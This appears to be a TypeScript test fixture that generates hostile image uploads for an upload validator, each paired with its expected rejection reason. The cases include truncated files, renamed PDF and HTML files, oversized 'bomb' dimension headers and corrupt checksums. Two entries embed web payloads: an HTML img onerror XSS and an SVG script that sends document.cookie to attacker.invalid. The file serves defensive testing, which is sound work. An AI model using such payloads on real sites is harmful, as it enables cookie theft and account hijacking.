import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { ImageRejectReasonCode } from '../../src/image';
import { panelHeic, withClaimedSize } from './heif';
import { u32 } from './images';

export interface HostileFile {
  name: string;
  /** The name it was uploaded under: names and extensions must never matter. */
  fileName: string;
  bytes: Buffer;
  reasonCode: ImageRejectReasonCode;
  /** True when only a decoder can tell (the header is fine); false means rejected before decoding. */
  needsDecoder: boolean;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([u32(data.length), typed, u32(crc32(typed))]);
}

/** A valid, tiny PNG whose IHDR (with a correct CRC) claims width × height. */
export function pngClaiming(width: number, height: number): Buffer {
  const ihdr = Buffer.concat([u32(width), u32(height), Buffer.from([8, 2, 0, 0, 0])]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.alloc(4096))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real small JPEG whose SOF frame header is rewritten to claim width × height. */
export function jpegClaiming(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  let at = 2;
  while (at < copy.length) {
    const marker = copy[at + 1];
    const length = copy.readUInt16BE(at + 2);
    if (marker >= 0xc0 && marker <= 0xc2) {
      copy.writeUInt16BE(height, at + 5);
      copy.writeUInt16BE(width, at + 7);
      return copy;
    }
    at += 2 + length;
  }
  throw new Error('no SOF in fixture JPEG');
}

export async function smallJpeg(): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 48, channels: 3, background: '#3366aa' } })
    .jpeg({ quality: 80 })
    .toBuffer();
}

/** Deterministic noise, so failures reproduce. */
function garbage(length: number, seed = 7): Buffer {
  const out = Buffer.alloc(length);
  let state = seed;
  for (let i = 0; i < length; i++) {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    out[i] = state >> 16;
  }
  return out;
}

export async function hostileCorpus(): Promise<HostileFile[]> {
  const textured = await sharp({
    create: { width: 800, height: 600, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
  })
    .jpeg({ quality: 85 })
    .toBuffer();
  const jpeg = await smallJpeg();
  const gif = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ff0000' } }).gif().toBuffer();
  const tiff = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#00ff00' } }).tiff().toBuffer();

  return [
    { name: 'zero bytes', fileName: 'empty.jpg', bytes: Buffer.alloc(0), reasonCode: 'empty_file', needsDecoder: false },
    {
      name: 'text named .jpg',
      fileName: 'notes.jpg',
      bytes: Buffer.from('Console recall: channel 1 gain at 2 o\'clock, HPF in.\n'.repeat(20)),
      reasonCode: 'unsupported_type',
      needsDecoder: false,
    },
    {
      name: 'JPEG cut off inside its headers',
      fileName: 'cut-early.jpg',
      bytes: jpeg.subarray(0, 100),
      reasonCode: 'corrupt_image',
      needsDecoder: false,
    },
    {
      name: 'JPEG cut off inside the image data',
      fileName: 'cut-late.jpg',
      bytes: textured.subarray(0, Math.floor(textured.length * 0.6)),
      reasonCode: 'corrupt_image',
      needsDecoder: true,
    },
    {
      name: 'JPEG magic then garbage',
      fileName: 'garbage.jpg',
      bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), garbage(4096)]),
      reasonCode: 'corrupt_image',
      needsDecoder: false,
    },
    {
      name: 'PDF renamed',
      fileName: 'manual.jpg',
      bytes: Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
      reasonCode: 'unsupported_type',
      needsDecoder: false,
    },
    {
      name: 'HTML as .png',
      fileName: 'page.png',
      bytes: Buffer.from('<!DOCTYPE html>\n<html><head><title>x</title></head><body><img src=x onerror=alert(1)></body></html>\n'),
      reasonCode: 'unsupported_type',
      needsDecoder: false,
    },
    {
      name: 'SVG with a script',
      fileName: 'drawing.png',
      bytes: Buffer.from(
        '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
          '<script>fetch("https://attacker.invalid/?c="+document.cookie)</script><rect width="10" height="10"/></svg>\n',
      ),
      reasonCode: 'unsupported_type',
      needsDecoder: false,
    },
    { name: 'GIF', fileName: 'anim.jpg', bytes: gif, reasonCode: 'unsupported_type', needsDecoder: false },
    { name: 'TIFF', fileName: 'scan.jpg', bytes: tiff, reasonCode: 'unsupported_type', needsDecoder: false },
    {
      name: 'PNG claiming 100,000 × 100,000',
      fileName: 'bomb.png',
      bytes: pngClaiming(100_000, 100_000),
      reasonCode: 'too_many_pixels',
      needsDecoder: false,
    },
    {
      name: 'JPEG claiming 60,000 × 60,000',
      fileName: 'bomb.jpg',
      bytes: jpegClaiming(jpeg, 60_000, 60_000),
      reasonCode: 'too_many_pixels',
      needsDecoder: false,
    },
    {
      name: 'HEIC claiming 100,000 × 100,000',
      fileName: 'bomb.heic',
      bytes: withClaimedSize(panelHeic(), 100_000, 100_000),
      reasonCode: 'too_many_pixels',
      needsDecoder: false,
    },
    {
      name: 'PNG with a broken header checksum',
      fileName: 'bad-crc.png',
      bytes: (() => {
        const png = pngClaiming(10, 10);
        png[29] ^= 0xff; // inside the IHDR CRC
        return png;
      })(),
      reasonCode: 'corrupt_image',
      needsDecoder: false,
    },
    {
      name: 'PNG claiming 0 × 10',
      fileName: 'zero.png',
      bytes: pngClaiming(0, 10),
      reasonCode: 'invalid_dimensions',
      needsDecoder: false,
    },
  ];
}
